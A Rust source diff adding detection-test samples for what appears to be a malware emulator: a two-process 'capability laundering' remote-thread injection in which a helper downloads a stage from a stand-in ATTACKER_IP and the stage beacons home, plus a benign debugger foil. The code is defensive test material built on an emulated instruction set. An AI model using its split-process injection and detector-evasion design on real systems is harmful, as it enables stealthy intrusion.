@@ -1,0 +1,238 @@
+//! Capability-laundering samples — the adversary the capability
+//! cross-check's *recipe* matcher is weakest against, plus its benign
+//! mirror image.
+//!
+//! * [`capability_laundering`] — the classic three-step remote injection
+//!   (`alloc-exec-remote → write-remote → create-remote-thread`) split
+//!   across two cooperating processes so that **no single process** holds
+//!   the full `remote-thread-injection` recipe, statically or
+//!   dynamically: the dropper allocates the RWX region in the victim and
+//!   hands the victim's pid and the allocation address to an accomplice,
+//!   which re-opens the victim by pid, writes the downloaded stage, and
+//!   starts the thread. Per-process recipe matching still catches the
+//!   accomplice's two-step `write-and-run-remote` tail — and the injected
+//!   stage beacons over a socket from inside the victim, a capability the
+//!   victim's image statically *cannot* exercise: the
+//!   statically-impossible-capability alert class this sample exists to
+//!   pin.
+//! * [`debugger_foil`] — the benign mirror: a debugger-shaped process
+//!   that spawns a target and reads its memory (`read-remote` only).
+//!   Cross-process memory access alone is not injection; the capability
+//!   cross-check must stay quiet on it.
+
+use crate::attacks::{benign_victim, PAYLOAD_BASE};
+use crate::builder::{
+    connect, emit_resolve_export, exit_process, finish_image, print_label, recv_into, send_label,
+    sleep, sys, SCRATCH,
+};
+use crate::endpoints::{BlobServer, EndpointFactory, PayloadHandler, ATTACKER_IP, HANDLER_PORT};
+use crate::scenario::{Category, InjectionKind, Sample, SampleScenario};
+use faros_emu::asm::Asm;
+use faros_emu::isa::{Mem as M, Reg};
+use faros_kernel::machine::IMAGE_BASE;
+use faros_kernel::module::hash_name;
+use faros_kernel::nt::Sysno;
+
+/// Guest port the injected stage beacons to (distinct from the staging
+/// handler so the two connections never share endpoint state).
+const BEACON_PORT: u16 = 4446;
+
+/// The stage that runs inside the victim: the canonical reflective
+/// export-table walk (the flagged read), then a socket beacon — the
+/// syscall the victim's own image can never justify.
+fn stage(message: &str) -> Vec<u8> {
+    let mut asm = Asm::new(PAYLOAD_BASE);
+    emit_resolve_export(&mut asm, hash_name("OutputDebugStringA"), "ods");
+    asm.mov_rr(Reg::Ebp, Reg::Eax);
+    asm.mov_label(Reg::Ebx, "msg");
+    asm.mov_ri(Reg::Ecx, message.len() as u32);
+    asm.call_reg(Reg::Ebp);
+    // Beacon home from the victim's address space: `NtSocketSend` here is
+    // exercised by a process whose loaded image has no socket site at all.
+    connect(&mut asm, ATTACKER_IP, BEACON_PORT, 0x200);
+    send_label(&mut asm, 0x200, "bcn", 3);
+    asm.hlt();
+    asm.label("msg");
+    asm.raw(message.as_bytes());
+    asm.label("bcn");
+    asm.raw(b"CAP");
+    asm.assemble().expect("stage assembles")
+}
+
+/// The dropper: spawns the victim, allocates the RWX region in it, spawns
+/// the accomplice, and launders the victim's pid plus the allocation
+/// address across the process boundary. It never writes code and never
+/// starts a thread — its own capability trace is recipe-free.
+fn dropper() -> faros_kernel::module::FdlImage {
+    // Scratch: 8.. victim out[proc_h, thread_h, pid], 20 victim alloc,
+    // 24.. helper out triple, 0x40.. staged params [pid, alloc, flag].
+    let mut asm = Asm::new(IMAGE_BASE);
+    asm.mov_label(Reg::Ebx, "vpath");
+    sys(
+        &mut asm,
+        Sysno::NtCreateUserProcess,
+        &[
+            (Reg::Ecx, "C:/notepad.exe".len() as u32),
+            (Reg::Edx, 0),
+            (Reg::Esi, SCRATCH + 8),
+        ],
+    );
+    // The only executable allocation of the whole attack (lands at
+    // PAYLOAD_BASE in the victim).
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
+    sys(
+        &mut asm,
+        Sysno::NtAllocateVirtualMemory,
+        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, SCRATCH + 20)],
+    );
+    asm.mov_label(Reg::Ebx, "hpath");
+    sys(
+        &mut asm,
+        Sysno::NtCreateUserProcess,
+        &[
+            (Reg::Ecx, "C:/helper.exe".len() as u32),
+            (Reg::Edx, 0),
+            (Reg::Esi, SCRATCH + 24),
+        ],
+    );
+    // Stage [victim pid, alloc va, go flag] contiguously, then hand the
+    // triple to the accomplice in one cross-process write.
+    asm.ld4(Reg::Edi, M::abs(SCRATCH + 16));
+    asm.st4(M::abs(SCRATCH + 0x40), Reg::Edi);
+    asm.ld4(Reg::Edi, M::abs(SCRATCH + 20));
+    asm.st4(M::abs(SCRATCH + 0x44), Reg::Edi);
+    asm.mov_ri(Reg::Edi, 1);
+    asm.st4(M::abs(SCRATCH + 0x48), Reg::Edi);
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 24));
+    sys(
+        &mut asm,
+        Sysno::NtWriteVirtualMemory,
+        &[(Reg::Ecx, SCRATCH + 0x80), (Reg::Edx, SCRATCH + 0x40), (Reg::Esi, 12)],
+    );
+    exit_process(&mut asm, 0);
+    asm.label("vpath");
+    asm.raw(b"C:/notepad.exe");
+    asm.label("hpath");
+    asm.raw(b"C:/helper.exe");
+    finish_image(asm)
+}
+
+/// The accomplice: waits for the dropper's parameter drop, downloads the
+/// stage, re-opens the victim by pid, writes the stage into the
+/// dropper-made allocation, and starts the remote thread.
+fn helper(stage_len: u32) -> faros_kernel::module::FdlImage {
+    // Scratch: 0 sock, 4 recv count, 0x80.. params [pid, alloc, flag],
+    // 0x8c victim handle.
+    let mut asm = Asm::new(IMAGE_BASE);
+    asm.label("wait");
+    asm.ld4(Reg::Edi, M::abs(SCRATCH + 0x88));
+    asm.cmp_ri(Reg::Edi, 0);
+    asm.jnz("go");
+    sleep(&mut asm, 50);
+    asm.jmp("wait");
+    asm.label("go");
+    // Download the stage (RW buffer; the helper allocates nothing
+    // executable anywhere).
+    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
+    send_label(&mut asm, 0, "rdy", 3);
+    sys(
+        &mut asm,
+        Sysno::NtAllocateVirtualMemory,
+        &[
+            (Reg::Ebx, 0xffff_ffff),
+            (Reg::Ecx, 0x1000),
+            (Reg::Edx, 0b011),
+            (Reg::Esi, SCRATCH + 0x90),
+        ],
+    );
+    recv_into(&mut asm, 0, PAYLOAD_BASE, 0x1000, 4);
+    // Re-open the victim from its laundered pid.
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x80));
+    sys(&mut asm, Sysno::NtOpenProcess, &[(Reg::Ecx, SCRATCH + 0x8c)]);
+    // Write the stage into the allocation the *dropper* made…
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x8c));
+    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 0x84));
+    sys(
+        &mut asm,
+        Sysno::NtWriteVirtualMemory,
+        &[(Reg::Edx, PAYLOAD_BASE), (Reg::Esi, stage_len)],
+    );
+    // …and run it.
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 0x8c));
+    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 0x84));
+    sys(
+        &mut asm,
+        Sysno::NtCreateThreadEx,
+        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
+    );
+    exit_process(&mut asm, 0);
+    asm.label("rdy");
+    asm.raw(b"RDY");
+    finish_image(asm)
+}
+
+/// The two-process capability-laundering injection (see module docs).
+pub fn capability_laundering() -> Sample {
+    let payload = stage("laundered caps");
+    let stage_len = payload.len() as u32;
+    let scenario = SampleScenario::new("capability_laundering")
+        .program("C:/dropper.exe", dropper())
+        .program("C:/helper.exe", helper(stage_len))
+        .program("C:/notepad.exe", benign_victim("notepad", 40))
+        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
+            PayloadHandler::new(payload.clone())
+        }))
+        .endpoint(EndpointFactory::new(ATTACKER_IP, BEACON_PORT, || {
+            // Consumes the stage's beacon silently.
+            BlobServer::new(Vec::new())
+        }))
+        .autostart("C:/dropper.exe");
+    Sample {
+        scenario,
+        category: Category::Injecting(InjectionKind::CodeInjection),
+        behaviors: Vec::new(),
+    }
+}
+
+/// The benign debugger-shaped foil: spawns a target and reads its memory.
+/// `read-remote` is the only remote capability it ever exercises, and its
+/// own image statically models it — the capability cross-check must stay
+/// quiet.
+pub fn debugger_foil() -> Sample {
+    let mut asm = Asm::new(IMAGE_BASE);
+    asm.mov_label(Reg::Ebx, "vpath");
+    sys(
+        &mut asm,
+        Sysno::NtCreateUserProcess,
+        &[
+            (Reg::Ecx, "C:/notepad.exe".len() as u32),
+            (Reg::Edx, 0),
+            (Reg::Esi, SCRATCH + 8),
+        ],
+    );
+    // Four inspection reads of the target's image, debugger style.
+    asm.mov_ri(Reg::Ebp, 4);
+    asm.label("peek");
+    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
+    sys(
+        &mut asm,
+        Sysno::NtReadVirtualMemory,
+        &[(Reg::Ecx, IMAGE_BASE), (Reg::Edx, SCRATCH + 0x100), (Reg::Esi, 16)],
+    );
+    sleep(&mut asm, 100);
+    asm.sub_ri(Reg::Ebp, 1);
+    asm.cmp_ri(Reg::Ebp, 0);
+    asm.jnz("peek");
+    print_label(&mut asm, "done", 8);
+    exit_process(&mut asm, 0);
+    asm.label("vpath");
+    asm.raw(b"C:/notepad.exe");
+    asm.label("done");
+    asm.raw(b"dbg done");
+
+    let scenario = SampleScenario::new("debugger_foil")
+        .program("C:/debugger.exe", finish_image(asm))
+        .program("C:/notepad.exe", benign_victim("notepad", 4))
+        .autostart("C:/debugger.exe");
+    Sample { scenario, category: Category::Benign, behaviors: Vec::new() }
+}
